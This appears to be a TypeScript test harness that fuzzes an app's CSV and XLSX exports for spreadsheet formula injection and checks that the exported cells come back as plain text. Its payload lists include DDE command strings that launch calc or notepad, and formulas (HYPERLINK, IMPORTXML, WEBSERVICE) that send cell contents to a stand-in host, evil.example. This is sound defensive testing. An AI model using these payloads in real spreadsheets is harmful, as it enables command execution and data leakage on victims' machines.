/** Hostile cells through every list that Kith gives away: what is written, read again by programs that know nothing of who wrote it. */
import { spawnSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import pg from 'pg'
import { csv, type Sheet, xlsx } from '../../../src/platform/spreadsheet.ts'
import type { Case } from '../../access/compare.ts'
import { type Chance, chance } from '../../access/shape.ts'
import type { Place } from '../harness.ts'
import { sendFile } from './form-send.ts'
import { formsOf } from './html.ts'
import { type Running, signIn, startInside } from './northmoor.ts'
import { formulasInCsv, readCsv, readXlsx } from './sheet-oracle.ts'

const starts = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '"=',
  "'=",
  "''=",
  '""=',
  ';=',
  '|=',
  ',=',
  '\t@',
  '\u2028=',
  '\u00ad+',
  '-',
  '%=',
]
const bodies = [
  ...[
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"x")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
  ],
  ...[
    "SUM(1+1)*cmd|'/c calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "10+20+cmd|' /C notepad'!'A1'",
    'A1',
    '2+5+cmd|x!y',
    '_xlfn.FILTERXML("<a/>","//b")',
    '{1,2}',
    'é',
    '',
    'x',
  ],
]
const fillers = [
  '',
  'Robin',
  'a;',
  'a\t',
  'a|',
  'a\n',
  'a\r\n',
  'a"',
  '"',
  '",',
  '";',
  'a,',
  'a ; ',
  'x_x003D_',
  '\ud800',
  '👾',
  '<f>',
  '&#61;',
  ']]>',
  '\u202e',
]

/** One cell that somebody might have typed so that it runs elsewhere. */
function hostileCell(by: Chance): string {
  const core = `${by.pick(starts)}${by.pick(bodies)}`
  const lot = by.next()
  if (lot < 0.45) return core
  if (lot < 0.85) return `${by.pick(fillers)}${core}`
  if (lot < 0.93) return `${by.pick(fillers)}${by.pick(fillers)}${core}${by.pick(fillers)}${core}`
  return by.pick(['Fell', 'O’Brien', 'Smith-Jones', "O'Brien", '', 'M20 1AB', '07700 900123', '2026-11-22'])
}
export function hostileSheet(seed: number, rows: number): Sheet {
  const by = chance(seed)
  const line = () => Array.from({ length: 7 }, () => hostileCell(by))
  return {
    name: hostileCell(by) || 'x',
    headings: ['Row', ...line()],
    rows: Array.from({ length: rows }, (_, at) => [at % 3 === 0 ? -at : at + 0.5, ...line()]),
  }
}

export interface SheetRun {
  rows: number
  cells: number
  failures: Case[]
  /** Cells whose words came back as they were. */
  kept: number
  exports: string[]
  office: string
}
export interface SheetOptions {
  seed: number
  rows: number
  /** Changes what was written, as a writer would write it that forgets something. */
  plant?: { csv?: (text: string) => string; xlsx?: (file: Buffer) => Buffer }
  onCase?: (one: Case, ok: boolean) => void
}

/** Words as they must come back: what we put before a formula, and what no list can hold, is not counted. */
const bare = (text: string) => text.toWellFormed().replace(/['\p{Cc}\ufffd\ufffe\uffff]/gu, '')

function judge(
  run: SheetRun,
  name: string,
  files: { csv: string; xlsx: Buffer },
  expected: Sheet | null,
  options: SheetOptions,
): void {
  const text = options.plant?.csv?.(files.csv) ?? files.csv
  const file = options.plant?.xlsx?.(files.xlsx) ?? files.xlsx
  const book = readXlsx(file)
  const wrong = [...formulasInCsv(text).map(one => `CSV: ${one}`), ...book.wrong.map(one => `XLSX: ${one}`)]
  if (!text.startsWith('\ufeff')) wrong.push('CSV: it does not say that it is UTF-8')
  const lines = readCsv(text, ',', true)
  run.cells += lines.flat().length
  run.exports.push(name)
  if (expected) {
    const rows = [expected.headings, ...expected.rows].map(cells => cells.map(cell => bare(String(cell ?? ''))))
    for (const [at, cells] of rows.entries()) {
      const ok = [lines[at] ?? [], filled(book.rows[at] ?? [], cells)].every(
        got => got.length === cells.length && got.every((cell, n) => bare(cell) === cells[n]),
      )
      if (ok) run.kept += cells.length
      else
        wrong.push(
          `row ${at + 1} came back otherwise: ${JSON.stringify(lines[at]).slice(0, 200)} for ${JSON.stringify(cells).slice(0, 200)}`,
        )
      options.onCase?.(
        {
          input: `${name} row ${at + 1} ${JSON.stringify(cells).slice(0, 300)}`,
          expected: 'the same words, no formula',
          got: ok ? 'the same words, no formula' : 'other words',
        },
        ok,
      )
    }
  } else run.kept += lines.flat().length
  for (const one of wrong) run.failures.push({ input: name, expected: 'words and numbers on one sheet', got: one })
}
/** XLSX leaves empty cells out: put back where the words say they were. */
const filled = (got: readonly string[], cells: readonly string[]): string[] => {
  const left = [...got]
  return cells.map(cell =>
    cell === '' && (left[0] === undefined || bare(left[0]) !== '') ? '' : (left.shift() ?? '\u0001'),
  )
}

export async function runSheets(place: Place, options: SheetOptions): Promise<SheetRun> {
  const run: SheetRun = {
    rows: options.rows,
    cells: 0,
    failures: [],
    kept: 0,
    exports: [],
    office: 'not on this machine',
  }
  const sheet = hostileSheet(options.seed, options.rows)
  judge(run, 'the writer', { csv: csv(sheet), xlsx: xlsx(sheet) }, sheet, options)
  const running = await startInside(place, { jobs: true })
  try {
    for (const [name, files] of await realLists(
      running,
      place,
      hostileSheet(options.seed + 1, Math.min(options.rows, 300)),
    ))
      judge(run, name, files, null, options)
  } finally {
    await running.stop()
  }
  const opened = inOffice(csv(sheet), xlsx(sheet))
  if (opened) {
    run.office = `${opened.formulas} formulas in ${opened.cells} cells`
    if (opened.formulas > 0 || opened.cells === 0)
      run.failures.push({ input: 'LibreOffice', expected: '0 formulas', got: run.office })
  }
  return run
}

// ------------------------------------------------------------------------------------------------ what people take away

/** The lists of the program itself: a pupil list of hostile cells, all of it refused, and totals of teams with hostile names. */
async function realLists(
  running: Running,
  place: Place,
  sheet: Sheet,
): Promise<Map<string, { csv: string; xlsx: Buffer }>> {
  const found = new Map<string, { csv: string; xlsx: Buffer }>()
  const lead = await signIn(running, 'dsl')
  const get = async (cookie: string, where: string) => {
    const answer = await running.ask(where, { headers: { cookie } })
    if (answer.status !== 200) throw new Error(`${where}: ${answer.status}`)
    return answer.body
  }
  const client = new pg.Client({ connectionString: place.adminUrl })
  await client.connect()
  try {
    const raw = (cell: unknown) => `"${String(cell).replaceAll('"', '""')}"`
    const body = [['UPN', 'Forename', 'Surname', 'DOB', '=1+1', '@x', '-y', '\t=z'], ...sheet.rows]
      .map(cells => cells.map(raw).join(','))
      .join('\r\n')
    const form = formsOf((await get(lead, '/pupils/import')).toString(), '/pupils/import').find(one => one.multipart)!
    const sent = await sendFile(running, { cookie: lead, form }, [['_once', crypto.randomUUID()]], {
      name: '=1+1.csv',
      body,
    })
    const at = String(sent.headers.location)
    await running.ask(`${at}/confirm`, {
      method: 'POST',
      headers: { cookie: lead, origin: running.origin, 'content-type': 'application/x-www-form-urlencoded' },
      body: `_once=${crypto.randomUUID()}&leavers=list`,
    })
    const run = await untilRead(running, lead, at)
    found.set('refused rows of a pupil list', {
      csv: (await get(lead, `${run}/refused.csv`)).toString(),
      xlsx: await get(lead, `${run}/refused.xlsx`),
    })
    await client.query("set session_replication_role = 'replica'")
    await client.query('update identity.organisation set name = $1 || left(id::text, 4)', ["=cmd|'/C calc'!A0;@x"])
    const partner = await signIn(running, 'partner')
    found.set('totals', { csv: (await get(partner, '/team.csv')).toString(), xlsx: await get(partner, '/team.xlsx') })
  } finally {
    await client.end()
  }
  return found
}
async function untilRead(running: Running, cookie: string, at: string): Promise<string> {
  for (let tries = 0; tries < 200; tries++) {
    const answer = await running.ask(`${at}/refused.csv`, { headers: { cookie } })
    if (answer.status === 200 && answer.body.toString().trim().includes('\n')) return at
    await new Promise(resolve => setTimeout(resolve, 200))
  }
  throw new Error(`${at} was never read in`)
}

/** Opened in LibreOffice, where the machine has it: how many cells it took for formulas. */
function inOffice(text: string, file: Buffer): { formulas: number; cells: number } | null {
  if (spawnSync('soffice', ['--version'], { timeout: 60_000 }).status !== 0) return null
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'kith-sheet-'))
  try {
    let [formulas, cells] = [0, 0]
    for (const [name, body] of [
      ['list.csv', text],
      ['book.xlsx', file],
    ] as const) {
      fs.writeFileSync(path.join(folder, name), body)
      spawnSync('soffice', ['--headless', '--convert-to', 'fods', '--outdir', folder, path.join(folder, name)], {
        timeout: 300_000,
      })
      const read = fs.readFileSync(path.join(folder, name.replace(/\..*/, '.fods')), 'utf8')
      formulas += (read.match(/table:formula=/g) ?? []).length
      cells += (read.match(/<table:table-cell/g) ?? []).length
    }
    return { formulas, cells }
  } finally {
    fs.rmSync(folder, { recursive: true, force: true })
  }
}
